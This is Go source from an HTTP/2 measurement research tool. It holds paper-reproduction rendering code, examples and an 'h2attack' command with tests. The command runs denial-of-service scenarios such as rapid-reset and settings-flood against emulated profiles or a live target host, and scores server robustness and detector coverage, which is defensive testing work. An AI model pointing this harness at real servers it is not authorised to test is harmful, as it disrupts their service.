	return renderDist("Maximum Frame Size", c.Pop.MaxFrameTable())
}

// TableVII renders the SETTINGS_MAX_HEADER_LIST_SIZE distribution.
func (c *Census) TableVII() string {
	return renderDist("Maximum Header List Size", c.Pop.MaxHeaderListTable())
}

func renderDist(title string, rows []population.DistRow) string {
	out := make([][]string, 0, len(rows))
	for _, r := range rows {
		out = append(out, []string{r.Label, fmt.Sprint(r.Count)})
	}
	return stats.FormatTable([]string{title, "Sites"}, out)
}

// Figure2 returns the SETTINGS_MAX_CONCURRENT_STREAMS CDF.
func (c *Census) Figure2() *stats.CDF {
	return stats.NewCDF(c.Pop.MaxConcurrentSamples())
}

// Figure2Rendered renders the Fig. 2 CDF as quantile rows.
func (c *Census) Figure2Rendered() string {
	return stats.AsciiCDF(
		[]string{"max concurrent streams"},
		[]*stats.CDF{c.Figure2()},
		[]float64{0.01, 0.05, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99},
		"%.0f")
}

// SectionVD renders the flow-control measurement counts.
func (c *Census) SectionVD() string {
	oneByte, zeroLen, silent := c.Pop.TinyWindowCounts()
	zs, zc := c.Pop.ZeroWUStreamCounts(), c.Pop.ZeroWUConnCounts()
	ls, lc := c.Pop.LargeWUStreamCounts(), c.Pop.LargeWUConnCounts()
	return stats.FormatTable(
		[]string{"Flow-control measurement", "Sites"},
		[][]string{
			{"1-byte window: 1-byte DATA frames", fmt.Sprint(oneByte)},
			{"1-byte window: zero-length DATA frames", fmt.Sprint(zeroLen)},
			{"1-byte window: no response", fmt.Sprint(silent)},
			{"zero window: HEADERS still returned", fmt.Sprint(c.Pop.ZeroWindowHeadersCount())},
			{"zero WINDOW_UPDATE (stream): RST_STREAM", fmt.Sprint(zs.RSTStream)},
			{"zero WINDOW_UPDATE (stream): GOAWAY", fmt.Sprint(zs.GoAway)},
			{"zero WINDOW_UPDATE (stream): with debug data", fmt.Sprint(zs.Debug)},
			{"zero WINDOW_UPDATE (stream): ignored", fmt.Sprint(zs.Ignore)},
			{"zero WINDOW_UPDATE (conn): GOAWAY", fmt.Sprint(zc.GoAway)},
			{"large WINDOW_UPDATE (stream): RST_STREAM", fmt.Sprint(ls.RSTStream)},
			{"large WINDOW_UPDATE (stream): no RST_STREAM", fmt.Sprint(ls.Ignore)},
			{"large WINDOW_UPDATE (conn): GOAWAY", fmt.Sprint(lc.GoAway)},
		})
}

// SectionVE renders the priority measurement counts.
func (c *Census) SectionVE() string {
	last, first, both := c.Pop.PriorityCounts()
	sd := c.Pop.SelfDepCounts()
	return stats.FormatTable(
		[]string{"Priority measurement", "Sites"},
		[][]string{
			{"last-DATA order obeys dependency tree", fmt.Sprint(last)},
			{"first-DATA order obeys dependency tree", fmt.Sprint(first)},
			{"both orders obey dependency tree", fmt.Sprint(both)},
			{"self-dependency: RST_STREAM", fmt.Sprint(sd.RSTStream)},
			{"self-dependency: GOAWAY", fmt.Sprint(sd.GoAway)},
			{"self-dependency: ignored", fmt.Sprint(sd.Ignore)},
		})
}

// SectionVF renders the push-capable sites.
func (c *Census) SectionVF() string {
	sites := c.Pop.PushSites()
	var b strings.Builder
	fmt.Fprintf(&b, "Sites sending PUSH_PROMISE: %d\n", len(sites))
	for _, d := range sites {
		fmt.Fprintf(&b, "  %s\n", d)
	}
	return b.String()
}

// Figures4And5 returns per-family HPACK compression-ratio CDFs for the top
// five families of the paper's Figs. 4 and 5.
func (c *Census) Figures4And5() map[string]*stats.CDF {
	out := make(map[string]*stats.CDF)
	for family, ratios := range c.Pop.HPACKRatioByFamily() {
		out[family] = stats.NewCDF(ratios)
	}
	return out
}

// Fig45Families are the five families plotted in Figs. 4 and 5.
var fig45Families = []string{"GSE", "nginx", "tengine", "litespeed", "ideaweb"}

// Figures4And5Rendered renders the per-family ratio CDFs.
func (c *Census) Figures4And5Rendered() string {
	cdfs := c.Figures4And5()
	names := make([]string, 0, len(fig45Families))
	series := make([]*stats.CDF, 0, len(fig45Families))
	for _, f := range fig45Families {
		if cdf, ok := cdfs[f]; ok {
			names = append(names, f)
			series = append(series, cdf)
		}
	}
	return stats.AsciiCDF(names, series,
		[]float64{0.05, 0.1, 0.25, 0.5, 0.75, 0.9, 0.95}, "%.2f")
}

// --- Figure 3: server push page-load time ---

// PushPLTSeries is one site's Fig. 3 group.
type PushPLTSeries struct {
	Domain  string
	MeanOn  time.Duration
	MeanOff time.Duration
}

// PushPLTResult is the Fig. 3 data set.
type PushPLTResult struct {
	Series []PushPLTSeries
	Visits int
}

// String renders the per-site PLT comparison.
func (r *PushPLTResult) String() string {
	rows := make([][]string, 0, len(r.Series))
	for _, s := range r.Series {
		saving := "-"
		if s.MeanOff > 0 {
			saving = fmt.Sprintf("%.0f%%", 100*(1-float64(s.MeanOn)/float64(s.MeanOff)))
		}
		rows = append(rows, []string{
			s.Domain,
			fmt.Sprintf("%.1fms", float64(s.MeanOn)/float64(time.Millisecond)),
			fmt.Sprintf("%.1fms", float64(s.MeanOff)/float64(time.Millisecond)),
			saving,
		})
	}
	return stats.FormatTable([]string{"Site", "PLT push on", "PLT push off", "Saving"}, rows)
}

// RunPushPageLoad reproduces Fig. 3: the epoch's push-capable sites are
// visited `visits` times with push enabled and disabled, over each site's
// latency-shaped path. timeScale shrinks real sleeping (measurements are
// reported unscaled).
func RunPushPageLoad(epoch Epoch, visits int, timeScale float64, seed int64) (*PushPLTResult, error) {
	if timeScale <= 0 {
		timeScale = 1
	}
	pop := GeneratePopulation(epoch, 1.0, seed)
	res := &PushPLTResult{Visits: visits}
	resources := []string{"/static/style.css", "/static/app.js", "/static/logo.png", "/static/hero.jpg"}
	for _, domain := range pop.PushSites() {
		spec, ok := pop.SiteByDomain(domain)
		if !ok {
			continue
		}
		srv := spec.NewServer()
		l := netsim.NewListener(domain)
		go func() {
			_ = srv.Serve(l)
		}()
		owd := time.Duration(float64(spec.BaseRTT) * timeScale / 2)
		dial := func() (net.Conn, error) { return l.DialLatency(owd, owd) }
		series, err := pageload.Measure(dial, domain, "/", resources, visits, 30*time.Second)
		srv.Close()
		if err != nil {
			return nil, fmt.Errorf("h2scope: push PLT for %s: %w", domain, err)
		}
		res.Series = append(res.Series, PushPLTSeries{
			Domain:  domain,
			MeanOn:  unscale(series.MeanOn(), timeScale),
			MeanOff: unscale(series.MeanOff(), timeScale),
		})
	}
	sort.Slice(res.Series, func(i, j int) bool { return res.Series[i].Domain < res.Series[j].Domain })
	return res, nil
}

func unscale(d time.Duration, timeScale float64) time.Duration {
	return time.Duration(float64(d) / timeScale)
}

// --- Figure 6: RTT comparison ---

// RTTComparison re-exports the rtt result type.
type RTTComparison = rtt.Comparison

// RTTMethod re-exports the estimator identifier.
type RTTMethod = rtt.Method

// RunRTTComparison reproduces Fig. 6: `perFamily` sites are drawn from each
// of the population's top server families (the paper randomly selects 10
// per popular server) and measured with all four estimators.
func RunRTTComparison(epoch Epoch, perFamily, samples int, timeScale float64, seed int64) (*RTTComparison, error) {
	pop := GeneratePopulation(epoch, 0.05, seed)
	rng := rand.New(rand.NewSource(seed))
	families := []string{"nginx", "litespeed", "GSE", "tengine", "ideaweb"}
	byFamily := make(map[string][]*SiteSpec)
	for i := range pop.Sites {
		s := &pop.Sites[i]
		byFamily[s.Family] = append(byFamily[s.Family], s)
	}
	var targets []rtt.Target
	for _, f := range families {
		specs := byFamily[f]
		rng.Shuffle(len(specs), func(i, j int) { specs[i], specs[j] = specs[j], specs[i] })
		n := perFamily
		if n > len(specs) {
			n = len(specs)
		}
		for _, s := range specs[:n] {
			targets = append(targets, rtt.Target{
				Domain:            s.Domain,
				BaseRTT:           s.BaseRTT,
				Jitter:            s.BaseRTT / 20,
				H1ProcessingDelay: time.Duration(5+rng.Intn(35)) * time.Millisecond,
				Profile:           s.Profile(),
				Seed:              int64(s.Rank),
			})
		}
	}
	return rtt.Compare(targets, rtt.Options{
		SamplesPerTarget: samples,
		TimeScale:        timeScale,
		Parallelism:      8,
	})
}

// RenderRTTComparison renders Fig. 6 as quantile rows per method.
func RenderRTTComparison(cmp *RTTComparison) string {
	byMethod := cmp.ByMethod()
	names := make([]string, 0, 4)
	series := make([]*stats.CDF, 0, 4)
	for _, m := range rtt.Methods() {
		names = append(names, string(m))
		series = append(series, stats.NewCDF(byMethod[m]))
	}
	return stats.AsciiCDF(names, series,
		[]float64{0.1, 0.25, 0.5, 0.75, 0.9}, "%.1fms")
}

// --- Measured-scan rendering (Section IV's thread-pooled scanner) ---

// RenderScan summarizes a measured population scan.
func RenderScan(sum *ScanSummary) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Measured scan of %d sites (NPN %d, ALPN %d, HEADERS %d)\n",
		sum.Scanned, sum.NPN, sum.ALPN, sum.GotHeaders)
	if sum.Failed > 0 || sum.Canceled > 0 {
		fmt.Fprintf(&b, "coverage: %d complete / %d failed / %d canceled",
			sum.Scanned-sum.Failed-sum.Canceled, sum.Failed, sum.Canceled)
		if len(sum.FailureKinds) > 0 {
			fmt.Fprintf(&b, " (by kind: %v)", sum.FailureKinds)
		}
		b.WriteString("\n")
	}
	fmt.Fprintf(&b, "1-byte window: %d one-byte / %d zero-length / %d silent\n",
		sum.TinyOneByte, sum.TinyZeroLen, sum.TinySilent)
	fmt.Fprintf(&b, "zero window: HEADERS from %d sites\n", sum.ZeroWindowHeadersOK)
	fmt.Fprintf(&b, "zero WINDOW_UPDATE (stream): RST %d / GOAWAY %d / ignore %d\n",
		sum.ZeroWUStream[ObserveRSTStream], sum.ZeroWUStream[ObserveGoAway], sum.ZeroWUStream[ObserveIgnore])
	fmt.Fprintf(&b, "large WINDOW_UPDATE (conn): GOAWAY %d / ignore %d\n",
		sum.LargeWUConn[ObserveGoAway], sum.LargeWUConn[ObserveIgnore])
	fmt.Fprintf(&b, "priority: last-rule %d / first-rule %d / both %d\n",
		sum.PriorityLast, sum.PriorityFirst, sum.PriorityBoth)
	fmt.Fprintf(&b, "self-dependency: RST %d / GOAWAY %d / ignore %d\n",
		sum.SelfDep[ObserveRSTStream], sum.SelfDep[ObserveGoAway], sum.SelfDep[ObserveIgnore])
	fmt.Fprintf(&b, "push sites: %d\n", sum.PushSites)
	if n := len(sum.RobustnessScores); n > 0 {
		total := 0.0
		for _, v := range sum.RobustnessScores {
			total += v
		}
		fmt.Fprintf(&b, "robustness: %d sites scored, mean %.2f\n", n, total/float64(n))
		keys := make([]string, 0, len(sum.RobustnessVerdicts))
		for k := range sum.RobustnessVerdicts {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			fmt.Fprintf(&b, "  %s: %d\n", k, sum.RobustnessVerdicts[k])
		}
	}
	if sum.FingerprintSites > 0 {
		fmt.Fprintf(&b, "fingerprint sweep: %d sites / %d echoed /fp / %d served by client\n",
			sum.FingerprintSites, sum.FingerprintEcho, sum.FingerprintDiffers)
	}
	return b.String()
}
