package h2scope_test

import (
	"fmt"
	"net"
	"time"

	"h2scope"
	"h2scope/internal/netsim"
)

// ExampleNewServer shows the minimal serve-and-fetch loop through the
// public API.
func ExampleNewServer() {
	srv := h2scope.NewServer(h2scope.ApacheProfile(), h2scope.DefaultSite("doc.example"))
	l := netsim.NewListener("example-server")
	go func() {
		_ = srv.Serve(l)
	}()
	defer srv.Close()

	nc, _ := l.Dial()
	c, _ := h2scope.DialClient(nc, h2scope.DefaultClientOptions())
	defer func() {
		_ = c.Close()
	}()
	resp, _ := c.FetchBody(h2scope.Request{Authority: "doc.example", Path: "/about.html"}, 5*time.Second)
	fmt.Println(resp.Status(), resp.Header("server"))
	// Output: 200 Apache/2.4.23
}

// ExampleProbe runs one H2Scope probe battery and prints two Table III
// verdicts.
func ExampleProbe() {
	srv := h2scope.NewServer(h2scope.LiteSpeedProfile(), h2scope.DefaultSite("doc.example"))
	l := netsim.NewListener("example-probe")
	go func() {
		_ = srv.Serve(l)
	}()
	defer srv.Close()

	cfg := h2scope.DefaultProbeConfig("doc.example")
	cfg.QuietWindow = 20 * time.Millisecond
	report, err := h2scope.Probe(
		h2scope.DialerFunc(func() (net.Conn, error) { return l.Dial() }), cfg)
	if err != nil {
		fmt.Println("probe failed:", err)
		return
	}
	fmt.Println("flow control on HEADERS:", report.FlowControlOnHeaders())
	fmt.Println("priority:", report.PriorityVerdict())
	// Output:
	// flow control on HEADERS: true
	// priority: fail
}

// ExampleGeneratePopulation regenerates two of the paper's published
// counts from the synthetic Jan 2017 universe.
func ExampleGeneratePopulation() {
	pop := h2scope.GeneratePopulation(h2scope.EpochJan2017, 1.0, 42)
	npn, alpn, working := pop.AdoptionCounts()
	fmt.Println(npn, alpn, working)
	last, first, both := pop.PriorityCounts()
	fmt.Println(last, first, both)
	// Output:
	// 78714 70859 64299
	// 2187 117 111
}
