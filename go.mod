module h2scope

go 1.24
