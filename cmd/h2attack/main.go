// Command h2attack drives the adversarial scenario battery from
// internal/attack against an HTTP/2 server — the hostile-traffic complement
// of the paper's well-formed probes — and reports each scenario's typed
// outcome (survived / degraded / hung / killed-attacker, with latency and
// GOAWAY evidence).
//
// Targets are either a live host:port or a built-in Table III profile
// emulated in-process; the in-process mode can additionally arm the
// server-side real-time detector and report what it flagged and mitigated.
//
// Usage:
//
//	h2attack -profile nginx                          # whole catalog, in-process
//	h2attack -profile apache -scenario rapid-reset -duration 5s -rate 4000 -conns 4
//	h2attack -profile h2o -detector                  # also report detections
//	h2attack -target 127.0.0.1:8443 -tls -authority example.org
//	h2attack -profile nginx -out outcomes.jsonl      # JSONL outcome records
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"time"

	"h2scope"
	"h2scope/internal/attack"
	"h2scope/internal/metrics"
	"h2scope/internal/netsim"
	"h2scope/internal/server"
	"h2scope/internal/tlsutil"
)

func main() {
	opts, err := parseFlags(os.Args[1:], os.Stderr)
	if err == flag.ErrHelp {
		os.Exit(2)
	}
	if err == nil {
		err = run(opts, os.Stdout, os.Stderr)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "h2attack:", err)
		os.Exit(1)
	}
}

// options carries the parsed, validated command line.
type options struct {
	target    string
	useTLS    bool
	profile   string
	authority string
	scenario  string
	path      string
	duration  time.Duration
	rate      float64
	conns     int
	jitter    float64
	seed      int64
	timeout   time.Duration
	outPath   string
	detector  bool
	debugAddr string
}

// parseFlags parses args and validates flag combinations.
func parseFlags(args []string, errOut io.Writer) (*options, error) {
	o := &options{}
	fs := flag.NewFlagSet("h2attack", flag.ContinueOnError)
	fs.SetOutput(errOut)
	fs.StringVar(&o.target, "target", "", "host:port of the HTTP/2 server to attack")
	fs.BoolVar(&o.useTLS, "tls", false, "connect to -target with TLS and negotiate h2 via ALPN")
	fs.StringVar(&o.profile, "profile", "", "attack a built-in Table III profile in-process instead of a remote target")
	fs.StringVar(&o.authority, "authority", "attack.example", ":authority for attack and probe requests")
	fs.StringVar(&o.scenario, "scenario", "", "single scenario to run (default: the whole catalog); one of "+kindList())
	fs.StringVar(&o.path, "path", "", "resource to attack (default /; starvation wants a large one)")
	fs.DurationVar(&o.duration, "duration", 0, "per-scenario attack duration (default 1s)")
	fs.Float64Var(&o.rate, "rate", 0, "per-connection operation rate in ops/s (default: scenario-specific)")
	fs.IntVar(&o.conns, "conns", 0, "attacker connections per scenario (default 1)")
	fs.Float64Var(&o.jitter, "jitter", 0, "inter-operation delay jitter fraction in [0,1]")
	fs.Int64Var(&o.seed, "seed", 0, "jitter seed (0 derives one per scenario)")
	fs.DurationVar(&o.timeout, "timeout", 2*time.Second, "health-probe timeout; a post-attack probe over it marks the server hung")
	fs.StringVar(&o.outPath, "out", "", "append JSONL outcome records to this file; \"-\" streams them to stdout")
	fs.BoolVar(&o.detector, "detector", false, "arm the server-side real-time detector and report detections; needs -profile")
	fs.StringVar(&o.debugAddr, "debug-addr", "", "serve live /metrics, /metrics.json, expvar, and pprof on this address (\":0\" picks a port) during the battery")
	if err := fs.Parse(args); err != nil {
		return nil, err
	}
	if narg := fs.NArg(); narg > 0 {
		return nil, fmt.Errorf("unexpected positional arguments: %v", fs.Args())
	}
	if err := o.validate(); err != nil {
		return nil, err
	}
	return o, nil
}

func kindList() string {
	names := make([]string, 0, len(attack.Kinds()))
	for _, k := range attack.Kinds() {
		names = append(names, string(k))
	}
	return strings.Join(names, ", ")
}

// validate rejects contradictory or out-of-range flag combinations.
func (o *options) validate() error {
	if o.target == "" && o.profile == "" {
		return fmt.Errorf("need -target or -profile")
	}
	if o.target != "" && o.profile != "" {
		return fmt.Errorf("-target and -profile are mutually exclusive")
	}
	if o.scenario != "" {
		if _, ok := attack.ParseKind(o.scenario); !ok {
			return fmt.Errorf("unknown -scenario %q; one of %s", o.scenario, kindList())
		}
	}
	if o.duration < 0 {
		return fmt.Errorf("-duration must be >= 0; got %v", o.duration)
	}
	if o.rate < 0 {
		return fmt.Errorf("-rate must be >= 0; got %g", o.rate)
	}
	if o.conns < 0 {
		return fmt.Errorf("-conns must be >= 0; got %d", o.conns)
	}
	if o.jitter < 0 || o.jitter > 1 {
		return fmt.Errorf("-jitter must be in [0,1]; got %g", o.jitter)
	}
	if o.timeout <= 0 {
		return fmt.Errorf("-timeout must be positive; got %v", o.timeout)
	}
	if o.detector && o.profile == "" {
		return fmt.Errorf("-detector arms the in-process server; it needs -profile")
	}
	return nil
}

// machineStdout reports whether stdout carries the JSONL outcome stream
// (-out -), pushing human-readable output to stderr.
func (o *options) machineStdout() bool { return o.outPath == "-" }

// run executes the battery. Human-readable outcome lines go to stdout
// normally; with -out - the JSONL records own stdout and the human report
// moves to stderr.
func run(o *options, stdout, stderr io.Writer) (err error) {
	human := stdout
	if o.machineStdout() {
		human = stderr
	}

	var reg *metrics.Registry
	if o.debugAddr != "" || o.detector {
		reg = metrics.NewRegistry()
	}
	if o.debugAddr != "" {
		ds, derr := metrics.StartDebug(o.debugAddr, reg)
		if derr != nil {
			return derr
		}
		defer func() {
			_ = ds.Close()
		}()
		fmt.Fprintf(human, "debug endpoint: http://%s/metrics\n", ds.Addr())
	}

	var (
		dial func() (net.Conn, error)
		det  *server.Detector
	)
	switch {
	case o.profile != "":
		var profile h2scope.Profile
		found := false
		for _, p := range h2scope.TestbedProfiles() {
			if strings.EqualFold(p.Family, o.profile) {
				profile, found = p, true
			}
		}
		if !found {
			return fmt.Errorf("unknown profile %q", o.profile)
		}
		srv := h2scope.NewServer(profile, h2scope.DefaultSite(o.authority))
		if o.detector {
			det = srv.StartDetector(server.DetectorConfig{}, reg)
		}
		l := netsim.NewListener("h2attack")
		go func() {
			_ = srv.Serve(l)
		}()
		defer srv.Close()
		dial = func() (net.Conn, error) { return l.Dial() }
	default:
		dial = func() (net.Conn, error) {
			nc, derr := net.DialTimeout("tcp", o.target, o.timeout)
			if derr != nil {
				return nil, derr
			}
			if !o.useTLS {
				return nc, nil
			}
			proto, tc, terr := tlsutil.NegotiateALPN(nc, o.authority)
			if terr != nil {
				_ = nc.Close()
				return nil, terr
			}
			if proto != tlsutil.ProtoH2 {
				_ = tc.Close()
				return nil, fmt.Errorf("server negotiated %q, not h2", proto)
			}
			return tc, nil
		}
	}

	runner := &attack.Runner{
		Dial:         dial,
		Authority:    o.authority,
		ProbeTimeout: o.timeout,
	}
	params := attack.Params{
		Path:        o.path,
		Duration:    o.duration,
		Rate:        o.rate,
		Concurrency: o.conns,
		Jitter:      o.jitter,
		Seed:        o.seed,
	}

	var outs []attack.Outcome
	if o.scenario != "" {
		kind, _ := attack.ParseKind(o.scenario)
		out, rerr := runner.Run(kind, params)
		if rerr != nil {
			return rerr
		}
		outs = append(outs, out)
	} else {
		outs = runner.RunAll(params)
	}

	for _, out := range outs {
		fmt.Fprintln(human, renderOutcome(&out))
	}
	score := attack.ScoreOutcomes(outs)
	fmt.Fprintf(human, "robustness: %d/%d survived, score %.2f\n",
		score.Survived, score.Total, score.Value)

	if det != nil {
		reportDetections(human, det, outs)
	}

	if o.outPath == "" {
		return nil
	}
	var w io.Writer
	if o.machineStdout() {
		w = stdout
	} else {
		f, ferr := os.OpenFile(o.outPath, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if ferr != nil {
			return ferr
		}
		defer func() {
			if cerr := f.Close(); err == nil {
				err = cerr
			}
		}()
		w = f
	}
	enc := json.NewEncoder(w)
	for i := range outs {
		if err := enc.Encode(&outs[i]); err != nil {
			return fmt.Errorf("encoding outcome for %s: %w", outs[i].Kind, err)
		}
	}
	if !o.machineStdout() {
		fmt.Fprintf(human, "wrote %d outcome records to %s\n", len(outs), o.outPath)
	}
	return nil
}

// renderOutcome formats one scenario result as a human-readable line.
func renderOutcome(out *attack.Outcome) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-22s %-15s ops %d", out.Kind, out.Verdict, out.Ops)
	if out.Errors > 0 {
		fmt.Fprintf(&b, " (errors %d)", out.Errors)
	}
	fmt.Fprintf(&b, ", conns %d", out.Conns)
	if out.Killed > 0 {
		fmt.Fprintf(&b, " (%d killed)", out.Killed)
	}
	if out.GoAways > 0 {
		fmt.Fprintf(&b, ", goaways %d %v", out.GoAways, out.GoAwayCodes)
	}
	fmt.Fprintf(&b, ", probe %v (baseline %v)",
		out.ProbeLatency.Round(time.Microsecond), out.BaselineLatency.Round(time.Microsecond))
	if out.Note != "" {
		fmt.Fprintf(&b, " — %s", out.Note)
	}
	return b.String()
}

// reportDetections summarizes what the armed detector flagged, scenario
// kinds it caught, and any attacks that slipped through.
func reportDetections(w io.Writer, det *server.Detector, outs []attack.Outcome) {
	dets := det.Detections()
	fmt.Fprintf(w, "detector: %d detections\n", len(dets))
	caught := make(map[server.AttackKind]int)
	for _, d := range dets {
		caught[d.Kind]++
	}
	for _, k := range server.AttackKinds() {
		if caught[k] > 0 {
			fmt.Fprintf(w, "  %s: %d (mitigated)\n", k, caught[k])
		}
	}
	for _, out := range outs {
		if caught[server.AttackKind(out.Kind)] == 0 {
			fmt.Fprintf(w, "  %s: NOT detected\n", out.Kind)
		}
	}
}
