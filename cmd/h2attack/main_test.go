package main

import (
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"h2scope/internal/attack"
)

func TestParseFlagsValidation(t *testing.T) {
	cases := []struct {
		name    string
		args    []string
		wantErr string // substring; empty means the args must parse
	}{
		{"profile battery", []string{"-profile", "nginx"}, ""},
		{"target battery", []string{"-target", "127.0.0.1:8443"}, ""},
		{"single scenario", []string{"-profile", "apache", "-scenario", "rapid-reset"}, ""},
		{"detector in-process", []string{"-profile", "h2o", "-detector"}, ""},
		{"out to stdout", []string{"-profile", "nginx", "-out", "-"}, ""},

		{"no target", nil, "need -target or -profile"},
		{"both targets", []string{"-target", "x:1", "-profile", "nginx"}, "mutually exclusive"},
		{"unknown scenario", []string{"-profile", "nginx", "-scenario", "teardrop"}, "unknown -scenario"},
		{"negative duration", []string{"-profile", "nginx", "-duration", "-1s"}, "-duration must be >= 0"},
		{"negative rate", []string{"-profile", "nginx", "-rate", "-5"}, "-rate must be >= 0"},
		{"negative conns", []string{"-profile", "nginx", "-conns", "-1"}, "-conns must be >= 0"},
		{"jitter above one", []string{"-profile", "nginx", "-jitter", "1.5"}, "-jitter must be in [0,1]"},
		{"zero timeout", []string{"-profile", "nginx", "-timeout", "0s"}, "-timeout must be positive"},
		{"detector without profile", []string{"-target", "x:1", "-detector"}, "needs -profile"},
		{"positional junk", []string{"-profile", "nginx", "extra"}, "unexpected positional arguments"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := parseFlags(tc.args, io.Discard)
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("parseFlags(%v) = %v, want nil", tc.args, err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("parseFlags(%v) = %v, want error containing %q", tc.args, err, tc.wantErr)
			}
		})
	}
}

// TestRunSingleScenarioJSONL drives one scenario in-process and checks the
// persisted outcome record parses back with the right shape.
func TestRunSingleScenarioJSONL(t *testing.T) {
	path := filepath.Join(t.TempDir(), "outcomes.jsonl")
	opts, err := parseFlags([]string{
		"-profile", "nginx", "-scenario", "settings-flood",
		"-duration", "150ms", "-out", path,
	}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var stdout, stderr strings.Builder
	if err := run(opts, &stdout, &stderr); err != nil {
		t.Fatalf("run: %v", err)
	}
	if !strings.Contains(stdout.String(), "settings-flood") {
		t.Errorf("human report missing scenario line:\n%s", stdout.String())
	}
	if !strings.Contains(stdout.String(), "robustness:") {
		t.Errorf("human report missing robustness summary:\n%s", stdout.String())
	}

	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var out attack.Outcome
	if err := json.Unmarshal(data, &out); err != nil {
		t.Fatalf("outcome record is not JSON: %v\n%s", err, data)
	}
	if out.Kind != attack.KindSettingsFlood {
		t.Errorf("record kind = %q, want settings-flood", out.Kind)
	}
	if out.Verdict == "" || out.Ops == 0 {
		t.Errorf("record missing verdict or ops: %+v", out)
	}
}

// TestRunFullBatteryMachineStdout covers -out -: the whole catalog runs,
// stdout carries exactly one JSON record per scenario, and the human report
// lands on stderr.
func TestRunFullBatteryMachineStdout(t *testing.T) {
	opts, err := parseFlags([]string{
		"-profile", "apache", "-duration", "120ms", "-out", "-", "-detector",
	}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var stdout, stderr strings.Builder
	if err := run(opts, &stdout, &stderr); err != nil {
		t.Fatalf("run: %v", err)
	}
	lines := strings.Split(strings.TrimRight(stdout.String(), "\n"), "\n")
	if len(lines) != len(attack.Kinds()) {
		t.Fatalf("stdout carried %d records, want %d:\n%s", len(lines), len(attack.Kinds()), stdout.String())
	}
	seen := make(map[attack.Kind]bool)
	for i, line := range lines {
		var out attack.Outcome
		if err := json.Unmarshal([]byte(line), &out); err != nil {
			t.Fatalf("stdout line %d is not a JSON outcome: %v\n%q", i+1, err, line)
		}
		seen[out.Kind] = true
	}
	for _, k := range attack.Kinds() {
		if !seen[k] {
			t.Errorf("catalog scenario %s missing from output", k)
		}
	}
	errText := stderr.String()
	for _, want := range []string{"robustness:", "detector:"} {
		if !strings.Contains(errText, want) {
			t.Errorf("stderr missing human output %q:\n%s", want, errText)
		}
	}
	if strings.Contains(stdout.String(), "robustness:") {
		t.Errorf("human output leaked onto machine stdout:\n%s", stdout.String())
	}
}
