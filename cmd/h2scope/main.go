// Command h2scope probes an HTTP/2 server with the paper's full Section III
// battery and prints its Table III column plus probe details.
//
// Usage:
//
//	h2scope -target 127.0.0.1:8443 -tls -authority testbed.example
//	h2scope -target 127.0.0.1:8080 -authority testbed.example
//
// The target's document tree must contain the probe objects (the layout of
// h2server's DefaultSite); override paths with the flags below for other
// layouts.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"h2scope"
	"h2scope/internal/core"
	"h2scope/internal/scan"
	"h2scope/internal/stats"
	"h2scope/internal/tlsutil"
	"h2scope/internal/trace"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "h2scope:", err)
		os.Exit(1)
	}
}

// traceFileName maps a target (host:port) onto a safe trace file name.
func traceFileName(key string) string {
	safe := strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9',
			r == '.', r == '-', r == '_':
			return r
		default:
			return '_'
		}
	}, key)
	if safe == "" {
		safe = "trace"
	}
	return safe + ".jsonl"
}

func writeTraceFile(path, target string, tr *trace.Tracer) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := trace.Write(f, target, tr); err != nil {
		_ = f.Close()
		return err
	}
	return f.Close()
}

func run() error {
	var (
		target    = flag.String("target", "", "host:port of the HTTP/2 server (required)")
		authority = flag.String("authority", "testbed.example", ":authority for requests")
		useTLS    = flag.Bool("tls", false, "connect with TLS and negotiate h2 via ALPN")
		timeout   = flag.Duration("timeout", 5*time.Second, "per-probe timeout")
		retries   = flag.Int("retries", 0, "retry the battery this many times on transient (dial/timeout) failures")
		quiet     = flag.Duration("quiet", 40*time.Millisecond, "idle window before concluding a server ignored a probe")
		drainPath = flag.String("drain", "/drain/64k", "object of >= 65,535 bytes for the priority probe's window drain")
		largeList = flag.String("large", "/large/1,/large/2,/large/3,/large/4,/large/5,/large/6", "comma-separated large objects")
		smallPath = flag.String("small", "/about.html", "small page for settings/HPACK/ping probes")
		asJSON    = flag.Bool("json", false, "emit the report as JSON")
		traceDir  = flag.String("trace", "", "directory to write a frame-level trace (JSONL, view with h2trace)")
		exts      = flag.Bool("extensions", false, "also run the beyond-paper extension probes")
		h2c       = flag.Bool("h2c-upgrade", false, "probe the cleartext Upgrade: h2c path (plain TCP targets only)")
	)
	flag.Parse()
	if *target == "" {
		flag.Usage()
		return fmt.Errorf("missing -target")
	}
	if *retries < 0 {
		return fmt.Errorf("-retries must be >= 0; got %d", *retries)
	}
	if *timeout <= 0 {
		return fmt.Errorf("-timeout must be positive; got %v", *timeout)
	}

	// activeTracer is the per-target tracer the scan engine installs; the
	// dialer closure reads it to mark the TLS handshake as a region. Conn 0
	// means "connection identity not assigned yet" — the span builder
	// attributes the region to the next connection that opens.
	var activeTracer *trace.Tracer
	dialer := h2scope.DialerFunc(func() (net.Conn, error) {
		nc, err := net.DialTimeout("tcp", *target, *timeout)
		if err != nil {
			return nil, err
		}
		if !*useTLS {
			return nc, nil
		}
		endTLS := activeTracer.Region(0, "tls")
		proto, tc, err := tlsutil.NegotiateALPN(nc, *authority)
		endTLS()
		if err != nil {
			_ = nc.Close()
			return nil, err
		}
		if proto != tlsutil.ProtoH2 {
			_ = tc.Close()
			return nil, fmt.Errorf("server negotiated %q, not h2", proto)
